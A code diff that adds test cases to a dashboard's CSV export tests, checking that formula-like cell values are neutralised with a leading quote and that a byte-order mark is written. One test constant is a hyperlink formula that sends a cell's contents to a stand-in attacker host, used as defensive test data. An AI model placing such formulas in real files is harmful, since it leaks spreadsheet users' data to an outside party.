@@ -1,5 +1,5 @@
-// Table tests of the dashboard's pure parts and edges: CSV quoting as the export writes it,
-// occupancy steps, the token-to-cookie sign-in, the production lock without a token, and the
+// Table tests of the dashboard's pure parts and edges: CSV quoting and formula neutralisation as the export
+// writes them, occupancy steps, the token-to-cookie sign-in, the production lock without a token, and the
 // read-only DuckDB view that never fails a statement on the warehouse's connection.
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -20,6 +20,8 @@ import { NoReportTablesError, readOnlyDuckDb } from './report-engine.ts';
 const row = (over: Partial<ReportRow>): ReportRow =>
   Object.fromEntries(REPORT_COLUMNS.map((c) => [c, over[c] ?? null])) as ReportRow;
 
+const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1)';
+
 describe('report CSV', () => {
   it.each([
     ['plain', 'Jan', 'Jan'],
@@ -27,9 +29,14 @@ describe('report CSV', () => {
     ['newline', 'a\nb', '"a\nb"'],
     ['NULL is an empty field', null, ''],
     ['an empty string is quoted, as DuckDB COPY writes it', '', '""'],
+    ['a formula gets a leading quote', HOSTILE, `"'=HYPERLINK(""http://evil.example/?x=""&A1)"`],
+    ['so does a leading @', '@SUM(A1)', "'@SUM(A1)"],
+    ['a CR-led name is neutralised and quoted', '\r=1', `"'\r=1"`],
+    ['already neutralised by the export query: unchanged', "'=1", "'=1"],
   ])('%s', (_name, value, cell) => {
     const csv = toReportCsv([row({ participant_name: value, report_date: '2026-02-03' })]);
-    expect(csv.split('\n')[0]).toBe(REPORT_COLUMNS.join(','));
+    expect(csv.startsWith('\uFEFF')).toBe(true);
+    expect(csv.slice(1).split('\n')[0]).toBe(REPORT_COLUMNS.join(','));
     expect(csv.split('\n').slice(1).join('\n')).toBe(
       `2026-02-03,${cell}${','.repeat(REPORT_COLUMNS.length - 2)}\n`,
     );
